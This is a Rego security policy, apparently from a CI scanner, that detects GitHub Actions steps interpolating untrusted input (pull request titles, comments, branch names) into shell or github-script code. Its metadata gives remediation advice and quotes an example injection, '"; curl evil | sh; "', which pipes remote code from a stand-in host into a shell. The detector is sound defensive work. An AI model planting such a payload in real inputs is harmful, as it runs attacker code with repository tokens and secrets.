# METADATA
# title: Untrusted input interpolated into a script
# description: >-
#   ${{ }} expressions are expanded into the script before the shell runs it: a pull request
#   title, issue body, comment or branch name containing `"; curl evil | sh; "` executes with
#   the workflow's token and secrets.
# scope: package
# custom:
#   id: TG-GHA-0005
#   peer_ids:
#     checkov: [CKV_GHA_2]
#     kics: [20f14e1a-a899-4e79-9f09-b6a84cd4649b, 62ff6823-927a-427f-acf9-f1ea2932d616]
#   severity: HIGH
#   frameworks: [github-actions]
#   remediation: >-
#     Pass the value through an environment variable (env: TITLE: ${{
#     github.event.pull_request.title }}) and use "$TITLE" in the script.
#   references:
#     - https://securitylab.github.com/resources/github-actions-untrusted-input/
#     - https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
#   cwe: [CWE-94, CWE-78]
package tollgate.iac.github.script_injection

import data.lib.iac
import data.lib.gha
import rego.v1

deny contains res if {
	some x in gha.steps
	script := gha.run_script(x.step)
	m := regex.find_n(gha.untrusted_expr, script, 1)
	count(m) > 0
	res := gha.step_result(sprintf("run script interpolates untrusted input %s}}", [m[0]]), x, "run")
}

deny contains res if {
	some x in gha.steps
	startswith(gha.action_name(gha.uses(x.step)), "actions/github-script")
	script := x.step["with"].script
	is_string(script)
	m := regex.find_n(gha.untrusted_expr, script, 1)
	count(m) > 0
	res := iac.result_key(sprintf("github-script interpolates untrusted input %s}}", [m[0]]), x.step["with"], "script", x.id)
}
